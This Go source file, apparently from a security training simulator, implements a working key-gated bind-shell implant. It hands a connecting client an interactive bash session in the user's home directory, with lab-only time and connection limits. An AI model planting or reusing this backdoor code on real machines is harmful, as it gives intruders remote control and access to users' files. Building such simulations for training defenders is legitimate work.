package modes

import (
	"context"
	"crypto/subtle"
	"errors"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"github.com/sakimori/sakimori/sim/labkit"
)

// serveImplant is the malware an intruder left on a laptop: a bind shell
// on addr. Whoever connects and sends the implant's key as the first line
// gets bash, its input and output the connection, as the person who runs
// the laptop. It is how a lab's attack track reaches the browser's files,
// as the real intruder's malware did.
func serveImplant(ctx context.Context, ln net.Listener, key string) error {
	go func() { <-ctx.Done(); ln.Close() }()
	slots := make(chan struct{}, 4) // a few shells at once: a lab's one intruder and its trainee
	for {
		conn, err := ln.Accept()
		if err != nil {
			if ctx.Err() != nil {
				return nil
			}
			// Out of file descriptors, say: wait, and answer the next one.
			labkit.Logger.Warn("implant: accept", "err", err)
			time.Sleep(100 * time.Millisecond)
			continue
		}
		select {
		case slots <- struct{}{}:
			go func() {
				defer func() { <-slots }()
				implantShell(ctx, conn, key)
			}()
		default:
			conn.Close()
		}
	}
}

// implantSession bounds one shell, as the connection would not otherwise.
const implantSession = 10 * time.Minute

func implantShell(ctx context.Context, conn net.Conn, key string) {
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	line, err := readLine(conn, 256)
	if err != nil || subtle.ConstantTimeCompare([]byte(strings.TrimSpace(line)), []byte(key)) != 1 {
		return // silence, as an implant gives a scanner
	}
	_ = conn.SetDeadline(time.Now().Add(implantSession))
	ctx, cancel := context.WithTimeout(ctx, implantSession)
	defer cancel()
	cmd := exec.CommandContext(ctx, "bash", "--noprofile", "--norc")
	// The time limit ends everything the shell started, not the shell
	// alone: what it left running would hold the socket and the host's
	// process ids.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	// The socket itself is the shell's input and output, as a real bind
	// shell's is: no copying in between, so the shell's exit closes it.
	tcp, ok := conn.(*net.TCPConn)
	if !ok {
		return
	}
	sock, err := tcp.File()
	if err != nil {
		return
	}
	defer sock.Close()
	cmd.Stdin, cmd.Stdout, cmd.Stderr = sock, sock, sock
	cmd.Dir = os.Getenv("HOME")
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + os.Getenv("HOME"), "LANG=" + os.Getenv("LANG")}
	if err := cmd.Run(); err != nil && ctx.Err() == nil {
		labkit.Logger.Info("implant shell ended", "err", err)
	}
}

// readLine reads up to a newline a byte at a time, so that what follows
// the key in the same packet is left for the shell.
func readLine(r io.Reader, limit int) (string, error) {
	var line []byte
	b := make([]byte, 1)
	for len(line) < limit {
		if _, err := io.ReadFull(r, b); err != nil {
			return "", err
		}
		if b[0] == '\n' {
			return string(line), nil
		}
		line = append(line, b[0])
	}
	return "", errors.New("line too long")
}
